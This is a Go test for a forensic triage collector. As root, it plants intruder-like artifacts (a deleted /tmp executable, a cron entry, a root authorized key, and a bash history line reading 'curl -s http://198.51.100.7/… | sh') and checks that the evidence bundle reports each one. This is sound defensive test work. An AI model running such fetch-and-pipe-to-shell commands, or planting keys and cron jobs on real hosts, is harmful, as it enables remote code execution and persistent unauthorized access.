package hostcollect_test

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/firebreak-ir/firebreak/internal/bundle"
)

// restoreLater backs up path (or notes that it is absent) and restores it,
// mode included, when the test ends.
func restoreLater(t *testing.T, path string) {
	t.Helper()
	fi, err := os.Lstat(path)
	switch {
	case errors.Is(err, os.ErrNotExist):
		t.Cleanup(func() { os.Remove(path) })
	case err != nil:
		t.Fatalf("backing up %s: %v", path, err)
	case !fi.Mode().IsRegular():
		t.Skipf("%s is not a regular file (%s); not touching it", path, fi.Mode())
	default:
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("backing up %s: %v", path, err)
		}
		t.Cleanup(func() {
			if err := os.WriteFile(path, b, fi.Mode().Perm()); err != nil {
				t.Errorf("restoring %s: %v", path, err)
			}
			os.Chmod(path, fi.Mode().Perm())
		})
	}
}

func appendFile(t *testing.T, path, text string, mode os.FileMode) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, mode)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
}

// TestTriageFindsPlantedArtifacts plants what an intruder leaves behind on
// this machine, collects the triage profile through the plugin transport,
// and checks that the verified bundle shows each item as an examiner needs it.
func TestTriageFindsPlantedArtifacts(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: plants a cron entry in /etc/cron.d, a key in /root/.ssh/authorized_keys and a line in /root/.bash_history (CI runs as root)")
	}
	var nonce [4]byte
	rand.Read(nonce[:])
	marker := "firebreak-planted-" + hex.EncodeToString(nonce[:])

	// A process whose executable was deleted from /tmp.
	exe := filepath.Join("/tmp", marker)
	src, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(exe, src, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(exe) })
	exeSum := sha256.Sum256(src)
	cmd := exec.Command(exe, "600")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	// Wait until the kernel has mapped it, then delete it.
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if l, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", cmd.Process.Pid)); l == exe {
			break
		}
	}
	if err := os.Remove(exe); err != nil {
		t.Fatal(err)
	}

	// A cron entry.
	cronFile := filepath.Join("/etc/cron.d", marker)
	cronLine := "*/7 * * * * root /usr/bin/true " + marker
	if err := os.WriteFile(cronFile, []byte("# planted by a test\n"+cronLine+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(cronFile) })

	// An authorized key for root.
	sshDir := "/root/.ssh"
	if _, err := os.Lstat(sshDir); errors.Is(err, os.ErrNotExist) {
		if err := os.Mkdir(sshDir, 0o700); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Remove(sshDir) })
	}
	keys := filepath.Join(sshDir, "authorized_keys")
	restoreLater(t, keys)
	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f " + marker
	appendFile(t, keys, "\n"+key+"\n", 0o600)

	// A shell history line.
	history := "/root/.bash_history"
	restoreLater(t, history)
	stamp := time.Now().Unix()
	appendFile(t, history, fmt.Sprintf("#%d\ncurl -s http://198.51.100.7/%s | sh\n", stamp, marker), 0o600)

	// A listening TCP socket, held by this test process.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	port := ln.Addr().(*net.TCPAddr).Port

	got := collect(t, nil, map[string]any{"profile": "triage"})
	for _, a := range got.result.Artifacts {
		t.Logf("%-18s %-7s items=%-5d files=%-3d bytes=%-9d skipped=%d %s", a.Name, a.Status, a.Items, a.Files, a.Bytes, a.Skipped, a.Reason)
	}

	t.Run("deleted executable", func(t *testing.T) {
		var rec map[string]any
		for _, r := range got.records(t, "processes") {
			if int(r["pid"].(float64)) == cmd.Process.Pid {
				rec = r
			}
		}
		if rec == nil {
			t.Fatalf("process %d not collected", cmd.Process.Pid)
		}
		if rec["exe"] != exe || rec["exe_deleted"] != true || rec["suspicious_location"] != true || rec["exe_sha256"] != hex.EncodeToString(exeSum[:]) {
			t.Errorf("record %v: want exe %s deleted, suspicious, sha256 %x", rec, exe, exeSum)
		}
		copyPath, _ := rec["exe_copy"].(string)
		if b := got.members[copyPath]; sha256.Sum256(b) != exeSum {
			t.Errorf("the copied executable %q (%d bytes) does not hash to the binary's SHA-256", copyPath, len(b))
		}
		if st, ok := rec["start_time"].(string); !ok || !strings.HasPrefix(st, "20") {
			t.Errorf("start time %v", rec["start_time"])
		}
	})

	t.Run("cron entry", func(t *testing.T) {
		found := false
		for _, r := range got.records(t, "persistence") {
			c, _ := r["cron"].(map[string]any)
			if r["mechanism"] == "cron" && r["path"] == cronFile && c != nil && c["command"] == "/usr/bin/true "+marker {
				found = c["schedule"] == "*/7 * * * *" && c["user"] == "root" && c["line"] == float64(2)
			}
		}
		if !found {
			t.Errorf("no cron record for %s", cronFile)
		}
		raw := got.members[bundle.FilePath(cronFile)]
		if !strings.Contains(string(raw), cronLine) {
			t.Errorf("the raw copy of %s is %q", cronFile, raw)
		}
	})

	t.Run("authorized key", func(t *testing.T) {
		found := false
		for _, r := range got.records(t, "persistence") {
			k, _ := r["key"].(map[string]any)
			if r["mechanism"] == "authorized_keys" && k != nil && k["comment"] == marker {
				found = r["user"] == "root" && k["type"] == "ssh-ed25519" && k["fingerprint"] == "SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA"
			}
		}
		if !found {
			t.Errorf("no authorized_keys record with comment %s", marker)
		}
	})

	t.Run("listener", func(t *testing.T) {
		found := false
		for _, r := range got.records(t, "listening_services") {
			if r["port"] == float64(port) && r["address"] == "127.0.0.1" && r["protocol"] == "tcp" {
				for _, o := range r["owners"].([]any) {
					if int(o.(map[string]any)["pid"].(float64)) == os.Getpid() {
						found = true
					}
				}
			}
		}
		if !found {
			t.Errorf("no listening service on 127.0.0.1:%d owned by pid %d", port, os.Getpid())
		}
	})

	t.Run("history line", func(t *testing.T) {
		found := false
		for _, r := range got.records(t, "shell_history") {
			if strings.Contains(r["command"].(string), marker) {
				ts, _ := time.Parse(time.RFC3339, fmt.Sprint(r["time"]))
				found = r["path"] == history && strings.Contains(r["user"].(string), "root") && ts.Unix() == stamp
			}
		}
		if !found {
			t.Errorf("no history record for %s", marker)
		}
	})

	t.Run("manifest", func(t *testing.T) {
		m := got.manifest
		if m.Collector.Name != "host-collect" || m.Profile != "triage" || m.Host.BootID == "" || m.Host.Hostname == "" || m.FinishedAt.Before(m.StartedAt) {
			t.Errorf("manifest header %+v", m)
		}
		for _, mem := range m.Members {
			b, ok := got.members[mem.Path]
			sum := sha256.Sum256(b)
			if !ok || hex.EncodeToString(sum[:]) != mem.SHA256 || int64(len(b)) != mem.Size {
				t.Errorf("member %s does not match its manifest entry", mem.Path)
			}
		}
		cron := bundle.FilePath(cronFile)
		for _, mem := range m.Members {
			if mem.Path == cron && (mem.Source != cronFile || mem.Mode != "0644" || mem.ModTime == nil) {
				t.Errorf("cron member %+v", mem)
			}
		}
	})
}

// sanity check for the helper: the test process itself must not have left
// the planted files behind in /tmp.
var _ = io.Discard
